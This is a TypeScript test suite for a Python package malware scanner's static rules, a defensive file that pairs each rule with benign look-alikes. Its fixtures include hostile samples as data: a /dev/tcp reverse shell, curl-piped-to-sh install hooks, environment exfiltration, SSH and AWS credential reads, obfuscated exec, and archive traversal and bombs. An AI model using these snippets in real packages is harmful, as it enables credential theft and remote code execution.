import { beforeAll, describe, expect, test } from "bun:test";
import type { Artifact } from "../../src/core/artifact.ts";
import type { StaticResult } from "../../src/static/index.ts";
import { useTempDirs } from "../harness/temp.ts";
import { EVASION_CASES } from "./evasion-cases.ts";
import { artifactOf, BUILTIN_RULES, type RuleCase, scan, sdistCase as sdist, wheelCase as wheel } from "./helpers.ts";
import { rawTarGz, rawZip } from "./raw-archives.ts";

/**
 * Every static rule with positive and negative cases, evasions and benign look-alikes, scanned
 * together (one extractor process) the way a run scans its artifacts.
 */
type Case = RuleCase;

const elf = (...strings: string[]) => {
  const text = strings.join("\0");
  const out = new Uint8Array(64 + text.length + 64);
  out.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  out.set(new TextEncoder().encode(text), 64);
  return out;
};

const raw = (filename: string, bytes: () => Uint8Array) => (dir: string) => artifactOf(dir, filename, bytes());

const truncated = (bytes: Uint8Array) => bytes.subarray(0, bytes.length - 12);
const B64_PAYLOAD = Buffer.from("import os\nos.system('true')\n".repeat(60)).toString("base64");
const ZEROS = new Uint8Array(65 * 1024 * 1024);
const MANY = Array.from({ length: 50_001 }, (_, i) => ({ name: `many/f${i}.txt`, data: "x", method: 0 }));

const CASES: Case[] = [
  // --- archive safety -----------------------------------------------------------------------
  { rule: "static.archive.unsafe-path", label: "zip entry with ..", expect: "block", build: raw("trav-1.0-py3-none-any.whl", () => rawZip([{ name: "../evil.py", data: "x = 1\n" }])) },
  { rule: "static.archive.unsafe-path", label: "zip entry with absolute path", expect: "block", build: raw("abs-1.0-py3-none-any.whl", () => rawZip([{ name: "/etc/evil.py", data: "x = 1\n" }])) },
  { rule: "static.archive.unsafe-path", label: "tar entry escaping through ..", expect: "block", build: raw("travtar-1.0.tar.gz", () => rawTarGz([{ name: "travtar-1.0/../../evil.py", data: "x = 1\n" }])) },
  { rule: "static.archive.unsafe-path", label: "plain wheel", expect: "none", build: wheel("plainpkg", { "plainpkg/__init__.py": "X = 1\n" }) },
  { rule: "static.archive.link-outside", label: "tar symlink to /etc/passwd", expect: "block", build: raw("linkabs-1.0.tar.gz", () => rawTarGz([{ name: "linkabs-1.0/passwd", type: "2", linkname: "/etc/passwd" }])) },
  { rule: "static.archive.link-outside", label: "tar hardlink outside", expect: "block", build: raw("hardlink-1.0.tar.gz", () => rawTarGz([{ name: "hardlink-1.0/x", type: "1", linkname: "../../etc/shadow" }])) },
  { rule: "static.archive.link-outside", label: "zip symlink escaping", expect: "block", build: raw("ziplink-1.0-py3-none-any.whl", () => rawZip([{ name: "ziplink/l", data: "../../../../home", mode: 0o120777 }])) },
  { rule: "static.archive.link-outside", label: "tar symlink inside the archive", expect: "none", build: raw("linkin-1.0.tar.gz", () => rawTarGz([{ name: "linkin-1.0/a.py", data: "A = 1\n" }, { name: "linkin-1.0/b.py", type: "2", linkname: "a.py" }])) },
  { rule: "static.archive.special-file", label: "tar character device", expect: "block", build: raw("device-1.0.tar.gz", () => rawTarGz([{ name: "device-1.0/tty", type: "3" }])) },
  { rule: "static.archive.special-file", label: "tar with folders and files", expect: "none", build: raw("folders-1.0.tar.gz", () => rawTarGz([{ name: "folders-1.0/", type: "5" }, { name: "folders-1.0/a.py", data: "A = 1\n" }])) },
  { rule: "static.archive.bomb", label: "extreme compression ratio", expect: "block", build: raw("ratio-1.0-py3-none-any.whl", () => rawZip([{ name: "ratio/data.bin", data: ZEROS }])) },
  { rule: "static.archive.bomb", label: "entries sharing compressed data", expect: "block", build: raw("overlap-1.0-py3-none-any.whl", () => rawZip([{ name: "overlap/a.txt", data: "aaaa" }, { name: "overlap/b.txt", data: "aaaa", shareDataWith: 0 }])) },
  { rule: "static.archive.bomb", label: "entry inflating past its declared size", expect: "block", build: raw("liar-1.0-py3-none-any.whl", () => rawZip([{ name: "liar/__init__.py", data: "X = 1\n".repeat(5000), declaredSize: 100 }])) },
  { rule: "static.archive.bomb", label: "well compressed source file", expect: "none", build: wheel("compressible", { "compressible/__init__.py": "X = 1\n".repeat(50_000) }) },
  { rule: "static.archive.too-big", label: "more than 50,000 entries", expect: "block", build: raw("many-1.0-py3-none-any.whl", () => rawZip(MANY)) },
  { rule: "static.archive.too-big", label: "a few hundred entries", expect: "none", build: wheel("hundreds", Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`hundreds/m${i}.py`, `V = ${i}\n`]))) },
  { rule: "static.archive.uninspectable", label: "source with LZMA compression", expect: "block", build: raw("lzma-1.0-py3-none-any.whl", () => rawZip([{ name: "lzma/__init__.py", data: "X = 1\n", method: 14 }])) },
  { rule: "static.archive.uninspectable", label: "encrypted entry", expect: "block", build: raw("crypt-1.0-py3-none-any.whl", () => rawZip([{ name: "crypt/__init__.py", data: "X = 1\n", method: 0, flags: 1 }])) },
  { rule: "static.archive.uninspectable", label: "stored (uncompressed) entries", expect: "none", build: raw("stored-1.0-py3-none-any.whl", () => rawZip([{ name: "stored/__init__.py", data: "X = 1\n", method: 0 }])) },
  { rule: "static.archive.corrupt", label: "garbage named .whl", expect: "block", build: raw("garbage-1.0-py3-none-any.whl", () => new TextEncoder().encode("this is not a zip file at all")) },
  { rule: "static.archive.corrupt", label: "truncated tar.gz", expect: "block", build: raw("trunc-1.0.tar.gz", () => truncated(rawTarGz([{ name: "trunc-1.0/a.py", data: "A = 1\n".repeat(3000) }]))) },
  { rule: "static.archive.corrupt", label: "valid sdist", expect: "none", build: sdist("validsd", "from setuptools import setup\nsetup()\n") },

  // --- start-up hooks -----------------------------------------------------------------------
  { rule: "static.pth.code", label: ".pth running os.system", expect: "block", build: wheel("pthevil", { "pthevil/__init__.py": "" }, { "pthevil.pth": "import os; os.system('true')\n" }) },
  { rule: "static.pth.code", label: ".pth importing the package's own module", expect: "block", build: wheel("pthimport", { "pthimport/__init__.py": "" }, { "pthimport.pth": "import pthimport.hook\n" }) },
  { rule: "static.pth.code", label: "setuptools' distutils-precedence.pth", expect: "none", build: wheel("setuptools", { "_distutils_hack/__init__.py": "" }, { "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n" }) },
  { rule: "static.pth.code", label: "editable-install finder .pth shipped in a wheel", expect: "block", build: wheel("editablelike", { "editablelike/__init__.py": "" }, { "__editable__.editablelike-1.0.pth": "import __editable___editablelike_1_0_finder; __editable___editablelike_1_0_finder.install()\n" }) },
  { rule: "static.pth.code", label: "path-only .pth", expect: "none", build: wheel("pathpth", { "pathpth/__init__.py": "" }, { "pathpth.pth": "# comment\n/opt/somewhere\nsrc\n" }) },
  { rule: "static.pth.code", label: ".pth below site-packages (never processed)", expect: "none", build: wheel("deeppth", { "deeppth/__init__.py": "", "deeppth/data/x.pth": "import os\n" }) },
  { rule: "static.startup.hook-module", label: "another package ships _distutils_hack", expect: "block", build: wheel("hookmod", { "_distutils_hack/__init__.py": "X = 1\n", "hookmod/__init__.py": "" }) },
  { rule: "static.startup.hook-module", label: "a module of that name inside a package", expect: "none", build: wheel("hooklike", { "hooklike/_distutils_hack.py": "X = 1\n" }) },
  { rule: "static.startup.customize-module", label: "wheel ships sitecustomize.py", expect: "block", build: wheel("sitecust", { "sitecustomize.py": "X = 1\n", "sitecust/__init__.py": "" }) },
  { rule: "static.bytecode.sourceless", label: "sourceless .pyc in a package", expect: "warn", build: wheel("pyconly", { "pyconly/__init__.py": "", "pyconly/core.pyc": new Uint8Array([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]) }) },
  { rule: "static.bytecode.sourceless", label: "bytecode cache next to its source", expect: "none", build: wheel("pyccache", { "pyccache/__init__.py": "", "pyccache/__pycache__/__init__.cpython-311.pyc": new Uint8Array([0xa7, 0x0d, 0x0d, 0x0a]) }) },
  { rule: "static.bytecode.cached", label: "bytecode cache next to its source", expect: "info", build: wheel("pyccache2", { "pyccache2/__init__.py": "X = 2\n", "pyccache2/__pycache__/__init__.cpython-311.pyc": new Uint8Array([0xa7, 0x0d, 0x0d, 0x0a]) }) },
  { rule: "static.bytecode.cached", label: "sources only", expect: "none", build: wheel("nocache", { "nocache/__init__.py": "X = 3\n" }) },
  { rule: "static.startup.customize-module", label: "sitecustomize.py inside a package folder", expect: "none", build: wheel("nestcust", { "nestcust/sitecustomize.py": "X = 1\n" }) },

  // --- obfuscated execution -----------------------------------------------------------------
  { rule: "static.exec.decoded", label: "exec(base64.b64decode(...)) through an alias", expect: "block", build: wheel("dec1", { "dec1/__init__.py": "import base64 as b64\nexec(b64.b64decode('cHJpbnQoJ2hpJyk='))\n" }) },
  {
    rule: "static.exec.decoded", label: "getattr(builtins, 'ex'+'ec') on zlib data, hidden under tests/", expect: "block",
    build: sdist("dec2", "from setuptools import setup\nsetup()\n", {
      "tests/test_util.py": "run = getattr(__import__('builtins'), 'ex' + 'ec')\nblob = __import__('zlib').decompress(b'x\\x9c+(\\xca\\xcc+\\xd1P\\xcf\\xc8T\\xd7\\x04\\x00\\x1a\\xb6\\x03\\xf6')\nrun(blob)\n",
    }),
  },
  { rule: "static.exec.decoded", label: "exec of a chr-join", expect: "block", build: wheel("dec3", { "dec3/__init__.py": "code = ''.join(chr(c) for c in [112, 97, 115, 115])\neval(compile(code, 'x', 'exec'))\n" }) },
  { rule: "static.exec.decoded", label: "marshal.loads into exec", expect: "block", build: wheel("dec4", { "dec4/__init__.py": "import marshal\nexec(marshal.loads(DATA))\n" }) },
  { rule: "static.exec.decoded", label: "exec(open('version.py').read()) in setup.py", expect: "none", build: sdist("versionexec", "exec(open('versionexec/version.py').read())\nfrom setuptools import setup\nsetup(version=__version__)\n", { "versionexec/version.py": "__version__ = '1.0'\n" }) },
  { rule: "static.exec.decoded", label: "a plugin loader using importlib and compile", expect: "none", build: wheel("plugins", { "plugins/__init__.py": "import importlib\n\ndef load(name, path):\n    module = importlib.import_module(name)\n    code = compile(open(path).read(), path, 'exec')\n    exec(code, module.__dict__)\n    return module\n" }) },
  { rule: "static.exec.blob", label: "2 KB base64 blob decoded and executed", expect: "block", build: wheel("blobexec", { "blobexec/__init__.py": `import base64\nPAYLOAD = "${B64_PAYLOAD}"\nexec(base64.b64decode(PAYLOAD))\n` }) },
  { rule: "static.exec.blob", label: "2 KB base64 image decoded for display", expect: "none", build: wheel("blobicon", { "blobicon/__init__.py": `import base64\nICON = "${B64_PAYLOAD}"\n\ndef icon():\n    return base64.b64decode(ICON)\n` }) },
  { rule: "static.exec.downloaded", label: "exec(urlopen(...).read())", expect: "block", build: wheel("dl1", { "dl1/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\n" }) },
  { rule: "static.exec.downloaded", label: "requests result compiled and evaluated", expect: "block", build: wheel("dl2", { "dl2/__init__.py": "import requests\n\ndef update():\n    r = requests.get('http://127.0.0.1:9/x')\n    eval(compile(r.text, 'x', 'exec'))\n" }) },
  { rule: "static.exec.downloaded", label: "an HTTP client library", expect: "none", build: wheel("httpclient", { "httpclient/__init__.py": "import requests\n\ndef fetch(url):\n    resp = requests.get(url, timeout=5)\n    resp.raise_for_status()\n    return resp.json()\n" }) },

  // --- install hooks ------------------------------------------------------------------------
  { rule: "static.install.shell", label: "os.system through an alias in setup.py", expect: "block", build: sdist("sh1", "import os as o\no.system('curl -s http://127.0.0.1:9/x | sh')\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.shell", label: "getattr with the name held in a variable", expect: "block", build: sdist("sh2", "name = 'sys' + 'tem'\ngetattr(__import__('os'), name)('id')\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.shell", label: "shell in a helper module imported by setup.py", expect: "block", build: sdist("sh3", "from build_helpers import prepare\nprepare()\nfrom setuptools import setup\nsetup()\n", { "build_helpers.py": "from os import system as run\n\ndef prepare():\n    run('id')\n" }) },
  { rule: "static.install.shell", label: "the classic `python setup.py sdist upload` publish shortcut", expect: "none", build: sdist("publish", "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n    sys.exit()\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.shell", label: "a library calling os.system at runtime", expect: "none", build: wheel("runtimeshell", { "runtimeshell/__init__.py": "import os\n\ndef clear():\n    os.system('clear')\n" }) },
  { rule: "static.install.subprocess-shell", label: "subprocess with shell=True in setup.py", expect: "block", build: sdist("sps", "import subprocess\nsubprocess.check_call('make all', shell=True)\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.subprocess-shell", label: "a library running subprocess with shell=True at runtime", expect: "none", build: wheel("runsub", { "runsub/__init__.py": "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True, check=True)\n" }) },
  { rule: "static.install.shell-tool", label: "curl launched from setup.py", expect: "block", build: sdist("tool1", "import subprocess\nsubprocess.call(['curl', '-o', '/tmp/x', 'http://127.0.0.1:9/x'])\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.shell-tool", label: "cmake launched from setup.py", expect: "none", build: sdist("cmakepkg", "import subprocess\nsubprocess.check_call(['cmake', '..'])\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.subprocess", label: "git describe in setup.py", expect: "info", build: sdist("gitver", "import subprocess\nversion = subprocess.check_output(['git', 'describe']).decode()\nfrom setuptools import setup\nsetup(version=version)\n") },
  { rule: "static.install.subprocess", label: "subprocess in a runtime module of an sdist", expect: "none", build: sdist("runtimesub", "from setuptools import setup\nsetup()\n", { "runtimesub/__init__.py": "import subprocess\n\ndef ver():\n    return subprocess.check_output(['git', 'describe'])\n" }) },
  { rule: "static.install.network", label: "urlopen alias in setup.py", expect: "block", build: sdist("net1", "from urllib.request import urlopen as u\nu('http://127.0.0.1:9/')\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.network", label: "importlib.import_module('socket') in setup.py", expect: "block", build: sdist("net2", "import importlib\nimportlib.import_module('socket').create_connection(('127.0.0.1', 9))\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.network", label: "bundled ez_setup.py bootstrap", expect: "none", build: sdist("ezsetup", "from ez_setup import use_setuptools\nuse_setuptools()\nfrom setuptools import setup\nsetup()\n", { "ez_setup.py": "from urllib.request import urlopen\n\ndef use_setuptools():\n    return urlopen('http://127.0.0.1:9/setuptools.tar.gz')\n" }) },
  { rule: "static.install.network", label: "an HTTP client library's runtime code in an sdist", expect: "none", build: sdist("httplib2like", "from setuptools import setup\nsetup()\n", { "httplib2like/__init__.py": "import http.client\n\ndef get(host):\n    c = http.client.HTTPSConnection(host)\n    c.request('GET', '/')\n    return c.getresponse()\n" }) },
  {
    rule: "static.install.cmdclass-hook", label: "install command whose run() starts a shell", expect: "block",
    build: sdist("hook1", "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        self.payload()\n\n    def payload(self):\n        subprocess.Popen(['sh', '-c', 'true'])\n\nsetup(cmdclass={'install': PostInstall})\n"),
  },
  { rule: "static.install.cmdclass-hook", label: "build_py override running a code generator", expect: "none", build: sdist("genpkg", "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\nclass Gen(build_py):\n    def run(self):\n        subprocess.check_call(['protoc', 'x.proto'])\n        build_py.run(self)\n\nsetup(cmdclass={'build_py': Gen})\n") },
  { rule: "static.install.cmdclass", label: "bare install override", expect: "warn", build: sdist("bare", "from setuptools import setup\nfrom setuptools.command.install import install as _install\n\nclass Install(_install):\n    def run(self):\n        _install.run(self)\n        print('done')\n\nsetup(cmdclass={'install': Install})\n") },
  { rule: "static.install.cmdclass", label: "build_ext override", expect: "none", build: sdist("extpkg", "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n\nclass BuildExt(build_ext):\n    def run(self):\n        build_ext.run(self)\n\nsetup(cmdclass={'build_ext': BuildExt})\n") },

  // --- downloads and the environment --------------------------------------------------------
  { rule: "static.download.execute", label: "download written, made executable and run", expect: "warn", build: wheel("dlexec", { "dlexec/__init__.py": "import os, subprocess\nfrom urllib.request import urlopen\n\ndef update(p='/tmp/x'):\n    data = urlopen('http://127.0.0.1:9/x').read()\n    f = open(p, 'wb')\n    f.write(data)\n    f.close()\n    os.chmod(p, 0o755)\n    subprocess.call([p])\n" }) },
  { rule: "static.download.execute", label: "download saved to a cache file", expect: "none", build: wheel("dlcache", { "dlcache/__init__.py": "from urllib.request import urlopen\n\ndef fetch(url, p):\n    data = urlopen(url).read()\n    with open(p, 'wb') as f:\n        f.write(data)\n    return p\n" }) },
  { rule: "static.download.retrieve-execute", label: "urlretrieve then os.system", expect: "warn", build: wheel("retr", { "retr/__init__.py": "import os, urllib.request\n\ndef go():\n    urllib.request.urlretrieve('http://127.0.0.1:9/x', '/tmp/x')\n    os.chmod('/tmp/x', 0o755)\n    os.system('/tmp/x')\n" }) },
  { rule: "static.download.retrieve-execute", label: "urlretrieve of a data file", expect: "none", build: wheel("retrdata", { "retrdata/__init__.py": "import json, urllib.request\n\ndef go(url):\n    path, _ = urllib.request.urlretrieve(url)\n    return json.load(open(path))\n" }) },
  { rule: "static.env.exfiltration", label: "environment posted with requests", expect: "block", build: wheel("envpost", { "envpost/__init__.py": "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n" }) },
  { rule: "static.env.exfiltration", label: "environment copy serialised via a variable", expect: "block", build: wheel("envdump", { "envdump/__init__.py": "import os, json\ne = os.environ.copy()\nbody = json.dumps(e)\n" }) },
  { rule: "static.env.exfiltration", label: "environment passed to a subprocess", expect: "none", build: wheel("envsub", { "envsub/__init__.py": "import os, subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, env=dict(os.environ, LANG='C'))\n" }) },

  // --- credentials --------------------------------------------------------------------------
  { rule: "static.credentials.read", label: "~/.ssh/id_rsa built with os.path.join and read", expect: "block", build: wheel("sshread", { "sshread/__init__.py": "import os\nkey = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nwith open(key) as f:\n    f.read()\n" }) },
  { rule: "static.credentials.read", label: "pathlib read of ~/.aws/credentials under tests/", expect: "block", build: sdist("awsread", "from setuptools import setup\nsetup()\n", { "tests/conftest.py": "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n" }) },
  { rule: "static.credentials.read", label: "known_hosts read by an SSH helper", expect: "none", build: wheel("knownhosts", { "knownhosts/__init__.py": "import os\n\ndef hosts():\n    return open(os.path.expanduser('~/.ssh/known_hosts')).read()\n" }) },
  { rule: "static.credentials.shell-read", label: "cat of an SSH key through subprocess", expect: "block", build: wheel("catkey", { "catkey/__init__.py": "import subprocess\n\ndef k():\n    return subprocess.check_output(['cat', '~/.ssh/id_ed25519'])\n" }) },
  { rule: "static.credentials.shell-read", label: "ssh-keygen on a new key path", expect: "none", build: wheel("keygen", { "keygen/__init__.py": "import subprocess\n\ndef new(path):\n    subprocess.check_call(['ssh-keygen', '-f', path])\n" }) },
  { rule: "static.credentials.ssh-folder", label: "listing ~/.ssh", expect: "block", build: wheel("sshlist", { "sshlist/__init__.py": "import os\nfor name in os.listdir(os.path.expanduser('~/.ssh')):\n    pass\n" }) },
  { rule: "static.credentials.ssh-folder", label: "checking that ~/.ssh exists", expect: "none", build: wheel("sshexists", { "sshexists/__init__.py": "import os\nHAS_SSH = os.path.isdir(os.path.expanduser('~/.ssh'))\n" }) },
  { rule: "static.credentials.read-tool-config", label: "reading ~/.pypirc", expect: "info", build: wheel("pypircread", { "pypircread/__init__.py": "import os\nrc = os.path.join(os.path.expanduser('~'), '.pypirc')\nopen(rc).read()\n" }) },
  { rule: "static.credentials.read-tool-config", label: "an error message mentioning .pypirc", expect: "none", build: wheel("pypircmsg", { "pypircmsg/__init__.py": "def fail(repo):\n    raise ValueError('%s not found in .pypirc' % repo)\n" }) },
  { rule: "static.install.credential-path", label: "SSH key path in setup.py", expect: "block", build: sdist("keysetup", "KEY = '~/.ssh/id_rsa'\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.credential-path", label: "setup.py docstring mentioning a key file", expect: "none", build: sdist("docsetup", "\"\"\"Deploy with your key in ~/.ssh/id_rsa.\"\"\"\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.credentials.path-constant", label: "SSH key path constant in a library", expect: "warn", build: wheel("keyconst", { "keyconst/__init__.py": "DEFAULT_KEY = '~/.ssh/id_ed25519'\n" }) },
  { rule: "static.credentials.path-constant", label: "docstring and message mentioning ~/.ssh/id_rsa", expect: "none", build: wheel("keydoc", { "keydoc/__init__.py": "\"\"\"Loads keys from ~/.ssh/id_rsa by default.\"\"\"\n\ndef hint():\n    return 'put your key in ~/.ssh/id_rsa'\n" }) },
  { rule: "static.install.secret-env", label: "GITHUB_TOKEN read in setup.py", expect: "block", build: sdist("tok1", "import os\ntoken = os.environ.get('GITHUB_TOKEN')\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.secret-env", label: "token names from a loop in setup.py", expect: "block", build: sdist("tok2", "import os\nfor k in ['PYPI_TOKEN', 'NPM_TOKEN']:\n    os.environ.get(k)\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.install.secret-env", label: "CFLAGS read in setup.py", expect: "none", build: sdist("cflags", "import os\nflags = os.environ.get('CFLAGS', '')\nfrom setuptools import setup\nsetup()\n") },
  { rule: "static.credentials.secret-env", label: "os.environ['AWS_SECRET_ACCESS_KEY'] in a library", expect: "warn", build: wheel("awsenv", { "awsenv/__init__.py": "import os\nSECRET = os.environ['AWS_SECRET_ACCESS_KEY']\n" }) },
  { rule: "static.credentials.secret-env", label: "HOME read in a library", expect: "none", build: wheel("homeenv", { "homeenv/__init__.py": "import os\nHOME = os.environ['HOME']\n" }) },

  // --- compiled files -----------------------------------------------------------------------
  { rule: "static.binary.reverse-shell", label: "bash /dev/tcp reverse shell in a .so", expect: "block", build: wheel("revshell", { "revshell/__init__.py": "", "revshell/_speed.so": elf("bash -i >& /dev/tcp/127.0.0.1/9 0>&1") }) },
  { rule: "static.binary.reverse-shell", label: "ELF executable without an extension, found by its magic", expect: "block", build: wheel("binmagic", { "binmagic/__init__.py": "", "binmagic/bin/helper": elf("sh -c 'curl -s http://127.0.0.1:9/i | sh'") }) },
  { rule: "static.binary.reverse-shell", label: "generic strings every extension has", expect: "none", build: wheel("generic", { "generic/__init__.py": "", "generic/_c.so": elf("https://example.org/docs", "socket", "/bin/sh", "connect") }) },
  { rule: "static.binary.credential-path", label: "SSH key path in a .so", expect: "warn", build: wheel("bincred", { "bincred/__init__.py": "", "bincred/_c.so": elf("%s/.ssh/id_rsa") }) },
  { rule: "static.binary.credential-path", label: "an extension without such strings", expect: "none", build: wheel("bincln", { "bincln/__init__.py": "", "bincln/_c.so": elf("PyInit__c", "numpy") }) },
  { rule: "static.binary.layout", label: "mixed Python and extension wheel", expect: "info", build: wheel("mixed", { "mixed/__init__.py": "", "mixed/_c.so": elf("PyInit__c") }) },
  { rule: "static.binary.layout", label: "pure-Python wheel", expect: "none", build: wheel("purepy", { "purepy/__init__.py": "X = 1\n" }) },
  ...EVASION_CASES,
];

const artifacts = new Map<Case, Artifact>();
let result: StaticResult;
const tempDir = useTempDirs("pipcanary-static-rules");

beforeAll(async () => {
  const dir = tempDir();
  for (const item of CASES) artifacts.set(item, item.build(dir));
  result = await scan([...artifacts.values()]);
}, 300_000);

describe("static rules", () => {
  test.each(CASES.map((item) => [`${item.rule}: ${item.label}`, item] as const))("%s", (_, item) => {
    const artifact = artifacts.get(item) as Artifact;
    const scanned = result.artifacts.get(artifact.sha256);
    expect(scanned).toBeDefined();
    const severities = (scanned?.findings ?? []).filter((finding) => finding.ruleId === item.rule).map((finding) => finding.severity);
    if (item.expect === "none") expect(severities).toEqual([]);
    else expect(severities).toContain(item.expect);
  });

  test("every built-in static rule has a positive and a negative case", () => {
    for (const rule of BUILTIN_RULES) {
      const cases = CASES.filter((item) => item.rule === rule.id);
      expect({ rule: rule.id, positive: cases.some((item) => item.expect !== "none") }).toEqual({ rule: rule.id, positive: true });
      expect({ rule: rule.id, negative: cases.some((item) => item.expect === "none") }).toEqual({ rule: rule.id, negative: true });
    }
  });

  test("benign look-alikes raise nothing at warn or block level", () => {
    const benign = [
      "plainpkg", "setuptools", "hooklike", "plugins", "httpclient", "runtimeshell", "runsub", "publish", "versionexec", "cmakepkg", "envsub", "knownhosts",
      "wsmask", "xorsum", "flagopt", "flagdump", "savetrace", "vmrss", "dockerhelp", "scandoc", "rawbenign", "atexitclean", "threadlazy",
      "tracerlazy", "cgquota", "dindcheck", "mainthread", "atexitwrite",
    ];
    for (const name of benign) {
      const artifact = [...artifacts.values()].find((a) => a.name === name) as Artifact;
      const loud = (result.artifacts.get(artifact.sha256)?.findings ?? []).filter((f) => f.severity !== "info").map((f) => `${name}: ${f.ruleId}`);
      expect(loud).toEqual([]);
    }
  });

  test("code findings name file, line and the offending snippet", () => {
    const artifact = [...artifacts.values()].find((a) => a.name === "sh1") as Artifact;
    const finding = result.artifacts.get(artifact.sha256)?.findings.find((f) => f.ruleId === "static.install.shell");
    expect(finding?.subject).toEqual({ kind: "code", file: "sh1-1.0/setup.py", line: 2, snippet: "o.system('curl -s http://127.0.0.1:9/x | sh')" });
    expect(finding?.phase).toBe("static");
    expect(finding?.package).toBe("sh1");
    expect(finding?.artifactSha256).toBe(artifact.sha256);
  });
});
